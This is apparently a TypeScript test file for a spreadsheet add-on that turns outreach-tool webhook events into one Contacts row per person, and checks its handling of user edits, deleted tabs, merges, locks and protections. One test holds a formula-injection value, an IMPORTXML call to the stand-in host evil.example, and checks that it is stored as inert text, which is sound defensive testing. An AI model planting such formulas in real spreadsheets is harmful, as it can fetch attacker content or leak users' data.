/** Events become contacts: one row a person, in the built add-on; what people do to the tab stays as they did it. */
import type { ReceivingState } from '../../src/sidebar/protocol'
import { CONTACT_HEADERS as H } from '../../src/words'
import { contactOf, contactsIn, contactsTab, rebuilt, triggers } from './support/contacts'
import { eventBody, manyEvents } from './support/deliveries'
import { askPage, openReceiving, type ReceivingSheet } from './support/receiving'
import { OWNER } from './support/sheet'
import { columnOf } from './support/sheet-edits'

const at = (minute: number): string => `2026-09-14T08:${String(minute).padStart(2, '0')}:00Z`
const post = (sheet: ReceivingSheet, ...bodies: string[]): void => {
  for (const body of bodies) {
    if (!sheet.post(body).acknowledged) throw new Error('not acknowledged')
    sheet.clock.advance(9_000)
  }
}
const tabOf = (sheet: ReceivingSheet) => {
  const tab = contactsTab(sheet.book)
  if (!tab) throw new Error('there is no Contacts tab')
  return tab
}
const cellOf = (sheet: ReceivingSheet, name: string, header: string) => {
  const tab = tabOf(sheet)
  const column = columnOf(tab, header) ?? 0
  const names = columnOf(tab, H.name) ?? 0
  for (let row = 2; row <= tab.lastRow(); row += 1) if (tab.displayText(row, names) === name) return { row, column, text: tab.displayText(row, column) }
  return null
}

describe('a contact', () => {
  it('is there seconds after its first event, with what the event says, and moves on with the next ones', () => {
    const sheet = openReceiving()
    post(sheet, eventBody({ type: 'connection_request_sent', timestamp: at(1) }))
    expect(contactOf(sheet.book, 'Ada Novak 1')).toMatchObject({ Stage: 'Invited', Company: 'Example Freight', LinkedIn: 'https://www.linkedin.com/in/person-1-sample', Campaign: 'Sample Campaign North', Sender: 'Mira Okafor', Events: '1', Replies: '0' })
    post(sheet, eventBody({ timestamp: at(2) }), eventBody({ type: 'message_reply_received', timestamp: at(4), text: 'Gladly!' }), eventBody({ type: 'message_sent', timestamp: at(3), text: 'Hello' }))
    expect(contactOf(sheet.book, 'Ada Novak 1')).toMatchObject({ Stage: 'Replied', 'Last reply': 'Gladly!', 'Messages sent': '1', Replies: '1', Events: '4' })
    expect(contactsIn(sheet.book)).toEqual(rebuilt(sheet))
  })

  it('is one, and its reply one, when the reply is announced as first and as every reply', () => {
    const sheet = openReceiving()
    const reply = { lead: 5, text: 'Yes', messageTime: at(5) }
    post(sheet, eventBody({ ...reply, type: 'message_reply_received', timestamp: at(6) }), eventBody({ ...reply, type: 'every_message_reply_received', timestamp: at(7) }))
    expect(contactOf(sheet.book, 'Ada Novak 5')).toMatchObject({ Replies: '1', Events: '2' })
  })

  it('comes of no test', () => {
    const sheet = openReceiving()
    post(sheet, JSON.stringify({ ...(JSON.parse(eventBody()) as object), correlation_id: '00000000-0000-0000-0000-000000000000', connection_message: 'Test Message', lead: { id: 'TestId', profile_url: 'https://www.linkedin.com/in/test', full_name: 'Test' } }))
    expect(sheet.events()).toHaveLength(1)
    expect(contactsIn(sheet.book)).toEqual([])
  })

  it('never runs what somebody wrote as a formula', () => {
    const sheet = openReceiving()
    post(sheet, eventBody({ type: 'message_reply_received', timestamp: at(4), text: '=IMPORTXML("http://evil.example","//a")' }))
    const place = cellOf(sheet, 'Ada Novak 1', H.reply)
    expect(place?.text).toBe('=IMPORTXML("http://evil.example","//a")')
    expect(tabOf(sheet).cell(place?.row ?? 0, place?.column ?? 0)?.formula).toBeUndefined()
  })
})

describe('what people do to the tab', () => {
  it('a row that was deleted does not come back, by its next event or by a sort of Events', () => {
    const sheet = openReceiving()
    post(sheet, ...manyEvents(3))
    tabOf(sheet).deleteRows(cellOf(sheet, 'Ada Novak 2', H.name)?.row ?? 0, 1)
    post(sheet, eventBody({ lead: 2, type: 'message_sent', timestamp: at(50) }))
    const events = sheet.book.tabByName('Events')
    events?.sort({ row: 2, column: 1, rows: events.lastRow() - 1, columns: events.lastColumn() }, 2, false)
    post(sheet, eventBody({ lead: 4, timestamp: at(51) }))
    triggers(sheet, 2)
    expect(contactsIn(sheet.book).map((row) => row.Name)).toEqual(['Ada Novak 1', 'Ada Novak 3', 'Ada Novak 4'])
  })

  it('their own columns stay beside their people, sorted, moved and renamed', () => {
    const sheet = openReceiving()
    post(sheet, ...manyEvents(4))
    const tab = tabOf(sheet)
    tab.insertColumns(2, 1)
    tab.enter(1, 2, [['My note']])
    for (let row = 2; row <= 5; row += 1) tab.enter(row, 2, [[`note of ${tab.displayText(row, 1)}`]])
    tab.sort({ row: 2, column: 1, rows: 4, columns: tab.lastColumn() }, 1, false)
    tab.rename('People')
    post(sheet, eventBody({ lead: 3, type: 'message_reply_received', timestamp: at(40), text: 'Hm' }), eventBody({ lead: 9, timestamp: at(41) }))
    expect(cellOf(sheet, 'Ada Novak 3', 'My note')?.text).toBe('note of Ada Novak 3')
    expect(cellOf(sheet, 'Ada Novak 3', H.reply)?.text).toBe('Hm')
    expect(contactsIn(sheet.book)).toEqual(rebuilt(sheet))
    expect(sheet.book.tabByName('Contacts')).toBeUndefined()
  })

  it('renamed, or beside a Contacts of their own, it is what formulas and the live column go by', () => {
    const sheet = openReceiving()
    post(sheet, eventBody({ type: 'message_reply_received', timestamp: at(4), text: 'Hm' }))
    tabOf(sheet).rename('People')
    sheet.book.insertTab('Contacts').enter(1, 1, [['Customer'], ['Acme']])
    const url = contactOf(sheet.book, 'Ada Novak 1')?.LinkedIn ?? ''
    const formula = sheet.host.run({ kind: 'custom-function', functionName: 'HEYREACH_LEAD', args: [url, 'Name, Stage'], user: OWNER })
    expect(formula).toMatchObject({ ok: true, value: [['Ada Novak 1', 'Replied']] })
    const leads = sheet.book.insertTab('My leads')
    leads.enter(1, 1, [['LinkedIn'], [url]])
    const session = { user: OWNER, activeTabId: leads.id, selection: [{ row: 2, column: 1, rows: 1, columns: 1 }] }
    expect(sheet.host.run({ kind: 'menu', functionName: 'insertLiveStatus', user: OWNER, session })).toMatchObject({ ok: true })
    expect(leads.displayText(2, 2)).toBe('Replied')
  })

  it('what they typed over a cell of ours stays until events say something else there', () => {
    const sheet = openReceiving()
    post(sheet, eventBody({ timestamp: at(1) }))
    const company = cellOf(sheet, 'Ada Novak 1', H.company)
    tabOf(sheet).enter(company?.row ?? 0, company?.column ?? 0, [['Example Freight Ltd']])
    post(sheet, eventBody({ type: 'message_sent', timestamp: at(2) }))
    expect(cellOf(sheet, 'Ada Novak 1', H.company)?.text).toBe('Example Freight Ltd')
    post(sheet, eventBody({ type: 'message_sent', timestamp: at(3) }).replace('Example Freight', 'Other Freight'))
    expect(cellOf(sheet, 'Ada Novak 1', H.company)?.text).toBe('Other Freight')
  })

  it('a tab of their own that is called Contacts is left alone', () => {
    const sheet = openReceiving()
    const own = sheet.book.insertTab('Contacts')
    own.enter(1, 1, [['Customer', 'Phone'], ['Acme', '12']])
    post(sheet, eventBody())
    expect([own.displayText(2, 1), own.lastRow(), own.lastColumn()]).toEqual(['Acme', 2, 2])
    expect(contactsTab(sheet.book)?.name).toBe('Contacts 2')
  })

  it('the tab deleted, it is made anew of all events: by the next event, or by the hourly check', () => {
    for (const next of ['event', 'check']) {
      const sheet = openReceiving()
      post(sheet, ...manyEvents(5))
      sheet.book.deleteTab(tabOf(sheet).id)
      if (next === 'event') post(sheet, eventBody({ lead: 6, timestamp: at(59) }))
      else expect(sheet.host.run({ kind: 'time-trigger', functionName: 'checkNotifications', user: 'owner@example.com' })).toMatchObject({ ok: true })
      triggers(sheet)
      expect(contactsIn(sheet.book)).toHaveLength(next === 'event' ? 6 : 5)
      expect(contactsIn(sheet.book)).toEqual(rebuilt(sheet))
    }
  })
})

describe('two that turn out to be one', () => {
  const changed = (lead: number, slug: string, more: object = {}, type = 'connection_request_accepted'): string => {
    const body = JSON.parse(eventBody({ lead, type, timestamp: at(30) })) as { lead: object }
    return JSON.stringify({ ...body, lead: { ...body.lead, profile_url: `https://www.linkedin.com/in/${slug}`, ...more } })
  }

  it('become one row, and what people wrote beside both stays', () => {
    const sheet = openReceiving()
    post(sheet, changed(1, 'first', { id: null, email_address: null }), changed(2, 'second'), changed(3, 'third'))
    const tab = tabOf(sheet)
    const note = tab.lastColumn() + 1
    tab.enter(1, note, [['note']])
    for (const row of [2, 3, 4]) tab.enter(row, note, [[`n${row}`]])
    // The same person, by id 2, now under the URL of the first.
    post(sheet, changed(2, 'first', {}, 'message_sent'))
    expect(contactsIn(sheet.book)).toHaveLength(2)
    expect(contactsIn(sheet.book)).toEqual(rebuilt(sheet))
    const notes = [2, 3].map((row) => tab.displayText(row, note))
    expect(notes.join(' ')).toMatch(/n2/)
    expect(notes.join(' ')).toMatch(/n3/)
  })
})

describe('the pass', () => {
  it('does without a spreadsheet in the web app: the trigger does its work', () => {
    const sheet = openReceiving({ host: { switches: { webappActive: 'null' } } })
    post(sheet, ...manyEvents(3))
    expect(contactsIn(sheet.book)).toEqual([])
    triggers(sheet, 2)
    expect(contactsIn(sheet.book)).toHaveLength(3)
  })

  it('tells the health card what keeps it from working, and catches up', () => {
    // Whoever deployed the web app is an editor, whom a protection keeps out.
    const sheet = openReceiving({ host: { owner: 'boss@example.com', editors: [OWNER] } })
    const isTold = (): boolean => askPage<ReceivingState>(sheet, 'readReceiving').health.some(({ code }) => code === 'cannot-follow')
    post(sheet, eventBody({ lead: 1 }))
    triggers(sheet)
    const tab = tabOf(sheet)
    tab.protect({ rect: null, editors: [] })
    post(sheet, eventBody({ lead: 2, timestamp: at(3) }))
    triggers(sheet)
    expect([contactsIn(sheet.book).length, isTold()]).toEqual([1, true])
    tab.unprotectAll()
    triggers(sheet)
    expect([contactsIn(sheet.book).length, isTold()]).toEqual([2, false])
  })

  it('misses no event that was written but not followed when a sort leaves the bookmark in its place', () => {
    let locks = Infinity
    const sheet = openReceiving({ host: { onCall: ({ name }) => (name === 'Lock.tryLock' && (locks -= 1) < 0 ? { throw: 'There are too many LockService operations against the same script.' } : undefined) } })
    post(sheet, ...manyEvents(2))
    triggers(sheet)
    // The lock of the writing is got, that of the pass is not.
    locks = 1
    post(sheet, eventBody({ lead: 3, timestamp: at(50) }))
    locks = Infinity
    const events = sheet.book.tabByName('Events')
    events?.sort({ row: 2, column: 1, rows: 3, columns: events.lastColumn() }, 2, false)
    triggers(sheet, 2)
    expect(contactsIn(sheet.book).map((row) => row.Name)).toEqual(['Ada Novak 1', 'Ada Novak 2', 'Ada Novak 3'])
  })

  it('an idle trigger takes three calls', () => {
    const sheet = openReceiving()
    post(sheet, ...manyEvents(2))
    triggers(sheet)
    sheet.clock.advance(300_000)
    expect(sheet.runTrigger().backendCalls).toBe(3)
  })
})
